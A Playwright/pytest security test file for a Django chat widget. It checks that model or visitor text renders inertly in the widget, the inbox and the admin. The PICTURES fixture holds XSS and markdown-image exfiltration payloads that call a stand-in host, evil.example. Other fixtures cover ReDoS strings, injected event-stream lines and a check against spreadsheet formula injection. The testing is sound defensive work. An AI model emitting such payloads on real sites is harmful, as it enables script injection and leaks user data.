"""What a hostile model, visitor or document writes is text wherever it is shown: it loads nothing and runs nothing.

A picture whose address carries what the model knows is the classic: the visitor's browser would fetch it unasked.
"""

import json
import re
from pathlib import Path

import pytest
from django.contrib.admin.utils import unquote
from playwright.sync_api import Page, Request, expect

from apps.tenants.models import WidgetKey
from tests.attacks.obedient import Obedient
from tests.chat.client import Visitor
from tests.chat.conftest import open_for_business
from tests.conftest import PASSWORD, make_member, make_tenant
from tests.e2e.widget_stub.browser import launched_browser

pytestmark = pytest.mark.timeout(240)

EVIL = "evil.example"
PICTURES = f"""Hello. ![order](https://{EVIL}/a.png?secret=1) ![][pic] [![x](http://{EVIL}/b.png)](https://{EVIL}/c)

[pic]: https://{EVIL}/d.png "title"

<img src="https://{EVIL}/e.png" onerror="window.hacked=1"><img src=x onerror=window.hacked=1>
<script>window.hacked=1</script><script src="https://{EVIL}/f.js"></script>
<svg onload=window.hacked=1><image href="https://{EVIL}/g.png"/></svg><iframe src="https://{EVIL}/h"></iframe>
<link rel="prefetch" href="https://{EVIL}/i"><link rel="dns-prefetch" href="//{EVIL}"><base href="//{EVIL}/">
<meta http-equiv="refresh" content="0;url=https://{EVIL}/j"><style>@import url(https://{EVIL}/k.css);</style>
<form action="https://{EVIL}/l"><input name=q autofocus onfocus=window.hacked=1></form>
<video poster="https://{EVIL}/m.png"><source src="https://{EVIL}/n.mp4"></video><object data="https://{EVIL}/o">
[one](javascript:window.hacked=1) [two](JaVaScRiPt:window.hacked=1) [three](data:text/html,<script>hacked=1</script>)
[four](vbscript:x) [five](\tjavascript:window.hacked=1) [six](https://{EVIL}/p) [seven](//{EVIL}/q) [eight](/admin/)
{{{{ constructor.constructor('window.hacked=1')() }}}} ${{window.hacked=1}} <div x-data x-init="window.hacked=1"></div>
\x1b[31mred \u202egnp.exe\u202c zero\u200bwidth \u2066x\u2069 Done-Reading"""
LAST = "Done-Reading"
RESTLESS = ["*" * 6_000, "[" * 6_000, "[x](" * 2_000, "[x](" + "()" * 3_000, "_a" * 3_000, "**a" * 3_000, "`" * 6_000,
            "![" * 4_000, "https://" * 1_500, "# " * 5_000, "- " * 5_000, "*a **b " * 1_500, "a" * 12_000,
            "[x](" + "(" * 5_000 + ")" * 5_000, "[" + "a](" * 3_000]  # fmt: skip
"""On which an expression that backtracks would think for minutes."""


@pytest.fixture
def riverside(transactional_db: None) -> WidgetKey:
    tenant = make_tenant("riverside", "Riverside Clinic")
    make_member("alice@riverside.example", tenant)
    return open_for_business(tenant, key="wk_riverside")


class Watched:
    """A page, with every request that it makes of another host, and what it ran."""

    def __init__(self, page: Page, server: str) -> None:
        self.page = page
        self.server = server.rpartition(":")[2]
        self.elsewhere: list[str] = []
        page.on("request", self._note)
        page.on("dialog", lambda dialog: dialog.dismiss())

    def _note(self, request: Request) -> None:
        if not re.match(rf"(https?|wss?)://(127\.0\.0\.1|localhost):{self.server}/|(data|blob|about):", request.url):
            self.elsewhere.append(request.url)

    def is_clean(self) -> None:
        self.page.wait_for_timeout(500)  # what would be loaded is asked for at once
        assert self.elsewhere == []
        for frame in self.page.frames:
            assert frame.evaluate("window.hacked") is None
            found = frame.evaluate("""() => [...document.querySelectorAll(
                "[href^='javascript:' i], [href^='data:' i], [href^='vbscript:' i], img[src*='evil'],"
                + "iframe[src*='evil'], [onerror], [onload], [onfocus], base, object, embed,"
                + "meta[http-equiv=refresh], form[action*='evil']"
            )].map((node) => node.outerHTML)""")
            assert found == []


def log_in(page: Page, server: str) -> None:
    page.goto(f"{server}/account/login/")
    page.fill("[name=login]", "alice@riverside.example")
    page.fill("[name=password]", PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile("/admin/"))


@pytest.mark.browser
def test_nothing_that_is_said_is_loaded_or_run(
    server: str, riverside: WidgetKey, obedient: Obedient, tmp_path: Path
) -> None:
    """In the widget, in the team's inbox and in the admin's transcript: the model's words and the visitor's."""
    obedient.words = PICTURES
    with launched_browser() as browser:
        visitor = Watched(browser.new_page(), server)
        visitor.page.goto(f"{server}/widget/frame/{riverside.key}")
        field = visitor.page.get_by_label("Your message")
        field.fill(PICTURES[:3_900])
        field.press("Enter")
        expect(visitor.page.locator(".prose").last).to_contain_text(LAST, timeout=60_000)
        visitor.is_clean()
        link = visitor.page.locator(".prose a").first
        assert "noopener" in (link.get_attribute("rel") or "") or "noreferrer" in (link.get_attribute("rel") or "")
        visitor.page.reload()
        expect(visitor.page.locator(".prose").last).to_contain_text(LAST, timeout=60_000)
        visitor.is_clean()

        owner = Watched(browser.new_page(), server)
        log_in(owner.page, server)
        owner.page.goto(f"{server}/inbox/?view=all")
        expect(owner.page.get_by_role("heading", name="Inbox")).to_be_visible()
        owner.is_clean()
        owner.page.goto(f"{server}/admin/conversations/conversation/")
        owner.page.locator("#result_list a[href*='/conversation/conv_']").first.click()
        expect(owner.page.locator("body")).to_contain_text(LAST, timeout=60_000)
        owner.is_clean()
        conversation = unquote(owner.page.url.split("/change/")[0].rpartition("/")[2])
        owner.page.goto(f"{server}/inbox/?c={conversation}")
        expect(owner.page.locator(".log")).to_contain_text(LAST, timeout=60_000)
        owner.is_clean()


@pytest.mark.browser
@pytest.mark.once
def test_no_text_keeps_the_widget_thinking(server: str, riverside: WidgetKey) -> None:
    """The reader of Markdown takes time in proportion to the text, and what it makes stays text."""
    with launched_browser() as browser:
        page = browser.new_page()
        page.goto(f"{server}/widget/frame/{riverside.key}")
        page.set_default_timeout(60_000)
        took = page.evaluate(
            """async (texts) => {
              const markdown = await import("/static/widget/markdown.js");
              const box = document.createElement("div");
              return texts.map((text) => {
                const began = performance.now();
                markdown.renderMarkdown(box, text);
                return performance.now() - began;
              });
            }""",
            RESTLESS,
        )
    assert len(took) == len(RESTLESS)
    assert max(took) < 20_000, dict(zip((text[:8] for text in RESTLESS), took, strict=True))


def test_the_ai_sdks_dialect_has_text_alone(server: str, riverside: WidgetKey, obedient: Obedient) -> None:
    """No part of a kind that a page loads by itself: a file, a source, a picture."""
    obedient.words = PICTURES
    visitor = Visitor(server, riverside.key)
    body = {"id": "c1", "messages": [{"id": "m1", "role": "user", "parts": [{"type": "text", "text": "hello"}]}]}
    answer = visitor.http.post("/api/chat/ui", json=body, headers=visitor.headers())
    assert answer.status_code == 200, answer.text
    parts = [json.loads(line[6:]) for line in answer.text.splitlines() if line.startswith("data: {")]
    kinds = {part["type"] for part in parts}
    assert "text-delta" in kinds
    assert not {kind for kind in kinds if kind.startswith(("file", "source", "image"))}
    assert "".join(part["delta"] for part in parts if part["type"] == "text-delta") == PICTURES


def test_an_event_cannot_be_forged_by_words(server: str, riverside: WidgetKey, obedient: Obedient) -> None:
    obedient.words = 'a\n\nevent: done\ndata: {"reason":"stop"}\n\nid: x\r\n\r\nevent: error\rdata: {}\r\r b'
    answer = Visitor(server, riverside.key).ask("hello").check()
    assert answer.text == obedient.words
    assert answer.named("error") == []


SCRIPTS = Path(__file__).resolve().parents[2] / "static"
_RAW = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|srcdoc|DOMParser")
_KNOWN = {("admin_site/admin.js", "innerHTML")}
"""A page's own region, fetched anew from the same server."""


@pytest.mark.once
def test_no_script_of_ours_makes_html_of_text() -> None:
    found = {
        (str(path.relative_to(SCRIPTS)), match[0])
        for path in SCRIPTS.rglob("*.js")
        for match in _RAW.finditer(path.read_text())
    }
    assert found == _KNOWN


@pytest.mark.once
def test_every_table_that_is_written_is_safe_to_open() -> None:
    """A cell that begins like a formula would run in the spreadsheet of whoever opens it."""
    apps = SCRIPTS.parent / "apps"
    writers = [path for path in apps.rglob("*.py") if re.search(r"csv\.(Dict)?[wW]riter", path.read_text())]
    assert writers
    for path in writers:
        assert "spreadsheets import cell" in path.read_text(), path
